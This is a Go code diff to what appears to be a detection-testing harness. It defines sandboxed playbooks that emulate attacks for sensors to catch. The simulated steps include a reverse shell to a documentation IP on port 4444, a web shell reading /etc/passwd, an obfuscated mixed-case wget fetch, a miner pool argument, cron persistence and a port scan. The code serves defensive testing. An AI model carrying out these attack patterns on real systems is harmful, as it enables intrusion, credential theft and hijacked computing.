@@ -12,30 +12,30 @@ func ofBehaviours() []Playbook {
 	peer := part{Do: "connect", Host: "203.0.113.9", Port: 4444}
 	command := func(line string) program { return program{Image: "/bin/bash", Arguments: []string{"bash", "-c", line}} }
 	return []Playbook{
-		{"ransomware", []string{"vigil-ransomware"}, "makes forty files in a directory of its own and renames each to NAME.locked", func(s *stage) error {
+		{"ransomware", []string{"vigil-ransomware"}, "makes forty files in a directory of its own and renames each to NAME.locked", "", func(s *stage) error {
 			return s.event("/tmp/locker", nil, part{Do: "lock", Path: "/tmp/vigil-files"})
 		}},
-		{"download-execute", []string{"vigil-download-execute"}, "writes a program that does nothing as curl would, and runs it", func(s *stage) error {
+		{"download-execute", []string{"vigil-download-execute"}, "writes a program that does nothing as curl would, and runs it", "", func(s *stage) error {
 			if err := s.event("/usr/bin/curl", nil, part{Do: "copy", Path: "/tmp/vigil-downloaded"}); err != nil {
 				return err
 			}
 			return s.run("", program{Image: "/tmp/vigil-downloaded"})
 		}},
-		{"web-shell", []string{"vigil-web-shell"}, "runs a shell that does nothing, told to show the password file, below a program called php-fpm", func(s *stage) error {
+		{"web-shell", []string{"vigil-web-shell"}, "runs a shell that does nothing, told to show the password file, below a program called php-fpm", "", func(s *stage) error {
 			return s.run("/usr/sbin/php-fpm8.2", command("cat /etc/passwd"))
 		}},
-		{"reverse-shell", []string{"vigil-reverse-shell", "vigil-shell-socket"}, "connects within a network of its own and runs a shell that does nothing on the socket", func(s *stage) error {
+		{"reverse-shell", []string{"vigil-reverse-shell", "vigil-shell-socket"}, "connects within a network of its own and runs a shell that does nothing on the socket", "", func(s *stage) error {
 			p := peer
 			p.Then = &program{Image: "/bin/sh", Arguments: []string{"sh", "-i"}, Socket: true}
 			return s.event("/usr/bin/python3", nil, p)
 		}},
-		{"mining", []string{"vigil-mining", "vigil-miner-process"}, "runs a program that does nothing with a miner's arguments", func(s *stage) error {
+		{"mining", []string{"vigil-mining", "vigil-miner-process"}, "runs a program that does nothing with a miner's arguments", "", func(s *stage) error {
 			return s.run("", program{Image: "/usr/sbin/httpd", Arguments: []string{"httpd", "-o", "stratum+tcp://pool.vigil.example:3333"}})
 		}},
-		{"anomalous-case", []string{"vigil-anomalous-case"}, "runs a shell that does nothing with letters of mixed case", func(s *stage) error {
+		{"anomalous-case", []string{"vigil-anomalous-case"}, "runs a shell that does nothing with letters of mixed case", "", func(s *stage) error {
 			return s.run("", command("$(echo WgEt hTtP://vigil.example | tr A-Z a-z)"))
 		}},
-		{"discovery-burst", []string{"vigil-discovery-burst"}, "runs ten programs that do nothing under the names of those that explore a host", func(s *stage) error {
+		{"discovery-burst", []string{"vigil-discovery-burst"}, "runs ten programs that do nothing under the names of those that explore a host", "", func(s *stage) error {
 			for name := range strings.FieldsSeq("whoami id uname hostname ps ss w df lsmod ip") {
 				if err := s.run("", program{Image: "/usr/bin/" + name}); err != nil {
 					return err
@@ -43,22 +43,22 @@ func ofBehaviours() []Playbook {
 			}
 			return nil
 		}},
-		{"weak-signals", []string{"vigil-weak-signals"}, "runs, marks, schedules, connects and deletes itself, all on file systems and a network of its own", func(s *stage) error {
-			steps := []part{{Do: "create", Path: "/etc/cron.d/vigil"}, peer, {Do: "chmod", Text: "755", Path: "/tmp/vigil-marked"}, {Do: "delete", Path: "/tmp/.vigil/x"}}
-			for _, p := range steps {
-				if err := s.event("/tmp/.vigil/x", nil, p); err != nil {
-					return err
-				}
+		{"weak-signals", []string{"vigil-weak-signals"}, "below a program called cron: one is hidden, schedules, connects and deletes itself, all on file systems and a network of its own", "", func(s *stage) error {
+			x := program{Image: "/tmp/.vigil/x", Part: part{Do: "delete", Path: "/tmp/.vigil/x"}}
+			for _, p := range []part{peer, {Do: "create", Path: "/etc/cron.d/vigil"}, {Do: "chmod", Text: "755", Path: "/tmp/vigil-marked"}} {
+				next := x
+				p.Then = &next
+				x = program{Image: "/tmp/.vigil/x", Part: p}
 			}
-			return s.run("", program{Image: "/usr/bin/curl", Arguments: []string{"curl", "http://203.0.113.9/"}})
+			return s.run("/usr/sbin/cron", x)
 		}},
-		{"port-scan", []string{"vigil-port-scan"}, "tries eighty ports within a network of its own", func(s *stage) error {
+		{"port-scan", []string{"vigil-port-scan"}, "tries eighty ports within a network of its own", "", func(s *stage) error {
 			return s.event("/usr/bin/scan", nil, part{Do: "scan", Host: peer.Host, Port: 80})
 		}},
-		{"intelligence-domain", []string{"vigil-intelligence-domain"}, "asks for malware.vigil.example within a network of its own; needs Indicators among the lists", func(s *stage) error {
+		{"intelligence-domain", []string{"vigil-intelligence-domain"}, "asks for malware.vigil.example within a network of its own; needs Indicators among the lists", "", func(s *stage) error {
 			return s.event("/usr/bin/agent", nil, part{Do: "ask", Text: "malware.vigil.example"})
 		}},
-		{"intelligence-download", []string{"vigil-intelligence-download"}, "connects to 203.0.113.66 within a network of its own as curl would; needs Indicators among the lists", func(s *stage) error {
+		{"intelligence-download", []string{"vigil-intelligence-download"}, "connects to 203.0.113.66 within a network of its own as curl would; needs Indicators among the lists", "", func(s *stage) error {
 			return s.event("/usr/bin/curl", nil, part{Do: "connect", Host: "203.0.113.66", Port: 80})
 		}},
 	}
